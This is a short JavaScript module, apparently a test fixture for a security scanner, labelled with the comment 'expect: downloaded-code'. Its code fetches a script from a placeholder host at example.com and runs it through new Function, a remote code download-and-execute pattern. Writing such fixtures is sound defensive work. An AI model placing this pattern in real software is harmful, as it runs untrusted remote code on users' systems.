// expect: downloaded-code
module.exports = () =>
  fetch("https://example.com/m.js")
    .then((r) => r.text())
    .then((src) => new Function(src)());
